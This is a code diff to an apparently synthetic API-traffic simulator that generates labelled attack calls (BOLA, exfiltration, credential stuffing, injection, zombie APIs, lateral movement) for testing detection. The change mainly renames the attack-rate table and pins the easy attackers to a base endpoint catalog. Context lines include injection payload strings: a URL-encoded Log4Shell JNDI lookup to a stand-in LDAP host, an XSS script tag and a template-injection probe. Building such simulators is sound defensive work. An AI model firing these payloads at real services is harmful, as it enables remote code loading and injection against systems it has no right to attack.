@@ -7,7 +7,7 @@ the attack id), its absolute time window and its own principal. Every call an
 attacker makes carries its ground truth (``scenario`` = kind, ``attack_id``);
 calls that are part of the attack are ``malicious`` (an injector's ordinary
 calls are not). Adding a kind is one generator here, a rate in
-``_ATTACK_RATES`` and an entry in ``ATTACK_KINDS``.
+``ATTACK_RATES`` and an entry in ``ATTACK_KINDS``.
 """
 
 from __future__ import annotations
@@ -19,10 +19,10 @@ from operator import attrgetter
 
 from ingest.errors import SettingsError
 from ingest.simulator.call import SimCall, new_call
-from ingest.simulator.catalog import BY_KEY, ENDPOINTS, PASTE, Endpoint, Service, build_catalog, dependencies
+from ingest.simulator.catalog import BASE_ENDPOINTS, BY_KEY, ENDPOINTS, PASTE, Endpoint, Service, dependencies, qualified
 from ingest.simulator.world import World
 
-__all__ = ["ATTACK_KINDS", "Attack", "AttackPlan", "attack_calls", "plan_attacks"]
+__all__ = ["ATTACK_KINDS", "ATTACK_RATES", "Attack", "AttackPlan", "attack_calls", "plan_attacks"]
 
 ATTACK_KINDS: tuple[str, ...] = (
     "bola",
@@ -34,7 +34,7 @@ ATTACK_KINDS: tuple[str, ...] = (
 )
 
 # calls/s of one attacker instance, drawn uniformly in these bounds by ``plan_attacks``
-_ATTACK_RATES: dict[str, tuple[float, float]] = {
+ATTACK_RATES: dict[str, tuple[float, float]] = {
     "bola": (15.0, 25.0),
     "exfiltration": (10.0, 20.0),
     "credential_stuffing": (20.0, 40.0),
@@ -51,6 +51,16 @@ _OTHER_PAYLOADS = ("%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D", "<script>al
                    "%7B%7B7*7%7D%7D")
 _LATERAL_FROM = ("ml/recommender", "shop/carts", "shop/notifications", "ml/fraud-scorer")
 _LATERAL_ALWAYS = ("identity/secrets-broker", "payments/ledger-admin")
+# the easy attackers keep to the catalog they were written against, so routes added for later scenarios
+# leave their streams (and the golden-stream test) unchanged
+_BASE = ENDPOINTS[:BASE_ENDPOINTS]
+
+
+def _base_services() -> dict[str, Service]:
+    grouped: dict[str, list[Endpoint]] = {}
+    for e in _BASE:
+        grouped.setdefault(qualified(e), []).append(e)
+    return {q: Service(es[0].namespace, es[0].service, tuple(es)) for q, es in grouped.items() if es[0].namespace}
 
 
 @dataclass(frozen=True)
@@ -204,7 +214,7 @@ def _injection(a: Attack) -> list[SimCall]:
 def _retired_api(a: Attack) -> list[SimCall]:
     """A forgotten client or a scanner on retired routes that still answer (zombie APIs)."""
     w, rng = a.world, a.rng
-    retired = [e for e in ENDPOINTS if e.retired]
+    retired = [e for e in _BASE if e.retired]
     out = []
     for t in a.ticks():
         ep = retired[int(rng.random() * len(retired))]
@@ -220,7 +230,7 @@ def _retired_api(a: Attack) -> list[SimCall]:
 
 def _lateral_targets(a: Attack, workload: str) -> list[Service]:
     deps = set(dependencies()[workload]) | {workload}
-    services = {s.qualified: s for s in build_catalog() if s.namespace}
+    services = _base_services()
     others = sorted(q for q in services if q not in deps and q not in _LATERAL_ALWAYS)
     chosen = [q for q in _LATERAL_ALWAYS if q not in deps] + a.rng.sample(others, a.rng.randint(1, 4))
     return [services[q] for q in chosen]
@@ -278,7 +288,7 @@ def plan_attacks(seed: int, duration_s: float, warmup_s: float, per_kind: int = 
         for k in range(per_kind):
             start = rng.uniform(warmup_s, duration_s - tail)
             plans.append(AttackPlan(kind, f"{kind}-{k + 1}", start, min(30.0, duration_s - start),
-                                    round(rng.uniform(*_ATTACK_RATES[kind]), 2)))
+                                    round(rng.uniform(*ATTACK_RATES[kind]), 2)))
     return plans
 
 
